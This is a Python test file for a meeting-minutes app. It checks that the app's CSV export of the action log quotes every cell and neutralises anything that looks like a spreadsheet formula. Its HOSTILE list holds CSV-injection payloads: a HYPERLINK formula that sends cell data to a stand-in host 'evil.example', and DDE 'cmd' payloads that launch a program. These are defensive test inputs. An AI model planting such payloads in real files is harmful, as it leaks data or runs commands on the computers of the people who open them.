"""The action log as CSV opens in a spreadsheet as text: no cell is ever taken for a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

from clerk_app.cli import main
from clerk_app.core.model import AgendaItem, Meeting, Point
from clerk_app.services import meetings
from clerk_app.store.database import open_database

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1 (Action: =Clerk by 1 May 2025)",
    "Noted. (Action: @Chair/-Clerk/+Officer)",
]


def test_cells_that_look_like_formulas_are_neutralised_and_quoted(tmp_path: Path) -> None:
    db_path = tmp_path / "minutes.db"
    db = open_database(db_path)
    try:
        meetings.create_meeting(
            db,
            Meeting(
                committee="=Planning",
                date=dt.date(2025, 3, 4),
                items=[
                    AgendaItem(
                        title=f"{text} title", number="-7", points=[Point(f"{text} (Action: X)")]
                    )
                    for text in HOSTILE
                ],
            ),
        )
    finally:
        db.close()
    out, err = io.StringIO(), io.StringIO()
    assert main(["--db", str(db_path), "actions", "--csv"], out=out, err=err) == 0, err.getvalue()
    raw = out.getvalue()
    rows = list(csv.reader(io.StringIO(raw)))
    assert len(rows) == 1 + len(HOSTILE)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    # Nothing else changes: the quote comes off to give exactly what the minutes say.
    body = rows[1:]
    assert sorted(row[9].removeprefix("'") for row in body) == sorted(
        f"{text} (Action: X)" for text in HOSTILE
    )
    assert {row[1] for row in body} == {"'=Planning"}
    assert {row[2] for row in body} == {"'-7"}
    owners = {row[5] for row in body}
    assert "'@Chair/-Clerk/+Officer" not in owners  # the last tag in a point wins: X
    assert owners == {"X"}
    # Every cell is quoted, so a separator or quote inside one never splits it.
    for line in raw.splitlines():
        assert line.startswith('"') and line.endswith('"')


def test_owners_starting_like_formulas_are_neutralised(tmp_path: Path) -> None:
    db_path = tmp_path / "minutes.db"
    db = open_database(db_path)
    try:
        meetings.create_meeting(
            db,
            Meeting(
                committee="Audit",
                date=dt.date(2025, 3, 4),
                items=[AgendaItem("Budget", points=[Point("Noted. (Action: @Chair/Clerk)")])],
            ),
        )
    finally:
        db.close()
    out, err = io.StringIO(), io.StringIO()
    assert main(["--db", str(db_path), "actions", "--csv"], out=out, err=err) == 0
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][5] == "'@Chair/Clerk"
